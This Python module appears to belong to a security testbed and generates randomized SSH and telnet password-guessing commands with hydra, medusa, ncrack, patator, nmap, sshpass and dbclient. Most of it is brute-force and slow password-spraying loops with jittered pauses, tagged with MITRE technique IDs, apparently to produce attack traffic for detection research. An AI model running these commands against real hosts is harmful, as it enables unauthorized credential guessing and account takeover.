"""Guessing of passwords of shells: fast with dictionaries, and slowly with one password for many users."""

from testbed.attacks.material import ANYWHERE, SSH, accounts, maybe, pairs, passwords, pause, words
from testbed.catalogue import Assault, attack

BRUTE = "T1110.001"
SPRAY = "T1110.003"


def hydra(c, service: str, target: str, options: str = "", most: int = 18) -> str:
    return words(
        "hydra -I -q",
        f"-t {c.choose(1, 2, 4, 4, 6, 8)}",
        maybe(c, 0.3, f"-W {c.between(1, 2)}"),
        maybe(c, 0.4, "-u"),
        maybe(c, 0.2, "-e nsr"),
        options,
        f"-L {accounts(c, c.between(2, 6))}",
        f"-P {passwords(c, c.between(8, most), c.chance(0.3))}",
        f"{service}://{target}",
    )


def medusa(c, module: str, target: str, options: str = "") -> str:
    return words(
        f"medusa -h {target} -M {module} -t {c.between(1, 4)}",
        maybe(c, 0.3, "-e ns"),
        options,
        f"-U {accounts(c, c.between(2, 4))} -P {passwords(c, c.between(6, 12), c.chance(0.3))}",
    )


def ncrack(c, service: str, target: str, options: str = "") -> str:
    return words(
        f"ncrack -T{c.between(3, 5)} --connection-limit {c.between(1, 6)}",
        options,
        f"-U {accounts(c, c.between(2, 4))} -P {passwords(c, c.between(6, 14))} {service}://{target}",
    )


def patator(c, module: str, options: str, ignore: str) -> str:
    return words(
        f"patator {module}",
        options,
        "user=FILE0 password=FILE1",
        f"0={accounts(c, c.between(2, 5))} 1={passwords(c, c.between(6, 14))} -t {c.between(1, 6)}",
        maybe(c, 0.3, f"--rate-limit={c.between(0.1, 0.5)}"),
        f"-x ignore:{ignore}",
    )


def each_guess(c, body: str, users: int = 3, tries: int = 10, wait: str = "true") -> str:
    """Runs `body` for each of the `$user` and `$password`; users or passwords go round first."""
    outer, inner = (
        f"user in $(cat {accounts(c, c.between(2, users))})",
        f"password in $(cat {passwords(c, c.between(tries // 2, tries), c.chance(0.3))})",
    )
    if c.chance(0.5):
        outer, inner = inner, outer
    return f"for {outer}; do for {inner}; do {body}; {wait}; done; done"


def server(c, offer: str) -> str:
    return c.server(offer).address


@attack("brute_ssh", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("ssh",), packages=("hydra",), seconds=40)
def hydra_ssh(c):
    return Assault(hydra(c, "ssh", server(c, "ssh")))


@attack("brute_ssh", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("ssh",), packages=("medusa",), seconds=40)
def medusa_ssh(c):
    return Assault(medusa(c, "ssh", server(c, "ssh")))


@attack("brute_ssh", technique=BRUTE, tool="ncrack", origins=ANYWHERE, needs=("ssh",), packages=("ncrack",), seconds=40)
def ncrack_ssh(c):
    return Assault(ncrack(c, "ssh", server(c, "ssh")))


@attack(
    "brute_ssh", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("ssh",), packages=("patator",), seconds=40
)
def patator_ssh(c):
    return Assault(patator(c, "ssh_login", f"host={server(c, 'ssh')}", "mesg='Authentication failed.'"))


@attack(
    "brute_ssh",
    technique=BRUTE,
    tool="nmap ssh-brute",
    origins=ANYWHERE,
    needs=("ssh",),
    packages=("nmap",),
    seconds=40,
)
def nmap_ssh(c):
    return Assault(
        words(
            "nmap -n -Pn -sT -p22 --script ssh-brute --script-args",
            f"userdb={accounts(c, 3)},passdb={passwords(c, c.between(8, 16))},brute.threads={c.between(1, 4)}",
            server(c, "ssh"),
        )
    )


def ssh_guess(target: str) -> str:
    return (
        f'timeout 12 sshpass -p "$password" ssh {SSH} -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no'
        f" $user@{target} true"
    )


@attack(
    "brute_ssh",
    technique=BRUTE,
    tool="sshpass",
    origins=ANYWHERE,
    needs=("ssh",),
    packages=("sshpass", "openssh-client"),
    seconds=40,
)
def sshpass_loop(c):
    return Assault(each_guess(c, ssh_guess(server(c, "ssh")), 4, 12, pause(c.between(0.1, 0.8), 0.3)))


@attack(
    "brute_ssh_slow",
    technique=SPRAY,
    tool="sshpass",
    origins=ANYWHERE,
    needs=("ssh",),
    packages=("sshpass", "openssh-client"),
    seconds=200,
)
def ssh_spray(c):
    targets = [host.address for host in c.network.servers("ssh") if host is not c.host] or [server(c, "ssh")]
    body = ssh_guess("$target")
    return Assault(
        f"RANDOM={c.between(1, 32767)}; for password in $(cat {passwords(c, 30)}); do for user in"
        f" $(cat {accounts(c, c.between(3, 9))}); do for target in"
        f" {' '.join(c.random.sample(targets, c.between(1, min(2, len(targets)))))}; do {body};"
        f" {pause(c.between(2.0, 8.0), c.choose(0, 0.2, 0.5))}; done; done; done"
    )


@attack(
    "brute_ssh_slow",
    technique=SPRAY,
    tool="dbclient",
    origins=ANYWHERE,
    needs=("ssh",),
    packages=("dropbear-bin",),
    seconds=180,
)
def dropbear_spray(c):
    return Assault(
        f"RANDOM={c.between(1, 32767)}; for password in $(cat {passwords(c, 20)}); do for user in"
        f' $(cat {accounts(c, c.between(3, 6))}); do DROPBEAR_PASSWORD="$password" timeout 12 dbclient -y -y'
        f" $user@{server(c, 'ssh')} true; {pause(c.between(2.5, 8.0), c.choose(0.1, 0.4))}; done; done"
    )


@attack(
    "brute_ssh_slow",
    technique=SPRAY,
    tool="hydra slow",
    origins=ANYWHERE,
    needs=("ssh",),
    packages=("hydra",),
    seconds=180,
)
def hydra_spray(c):
    return Assault(
        f"hydra -I -q -t 1 -u -W {c.between(2, 6)} -c {c.between(2, 6)} -L {accounts(c, c.between(4, 9))}"
        f" -P {passwords(c, 12)} ssh://{server(c, 'ssh')}"
    )


@attack(
    "brute_telnet", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("telnet",), packages=("hydra",), seconds=40
)
def hydra_telnet(c):
    return Assault(f"hydra -I -q -t {c.between(2, 8)} -C {pairs(c, c.between(10, 26))} telnet://{server(c, 'telnet')}")


@attack(
    "brute_telnet",
    technique=BRUTE,
    tool="medusa",
    origins=ANYWHERE,
    needs=("telnet",),
    packages=("medusa",),
    seconds=40,
)
def medusa_telnet(c):
    return Assault(medusa(c, "telnet", server(c, "telnet")))


@attack(
    "brute_telnet",
    technique=BRUTE,
    tool="ncrack",
    origins=ANYWHERE,
    needs=("telnet",),
    packages=("ncrack",),
    seconds=40,
)
def ncrack_telnet(c):
    return Assault(ncrack(c, "telnet", server(c, "telnet")))


@attack(
    "brute_telnet",
    technique=BRUTE,
    tool="patator",
    origins=ANYWHERE,
    needs=("telnet",),
    packages=("patator",),
    seconds=40,
)
def patator_telnet(c):
    return Assault(
        words(
            f"patator telnet_login host={server(c, 'telnet')}",
            r"inputs='FILE0\nFILE1'",
            f"0={accounts(c, c.between(2, 4))} 1={passwords(c, c.between(4, 9))}",
            f"prompt_re='login:|Password:' persistent=0 -t {c.between(1, 4)}",
            "-x ignore:fgrep='Login incorrect'",
        )
    )
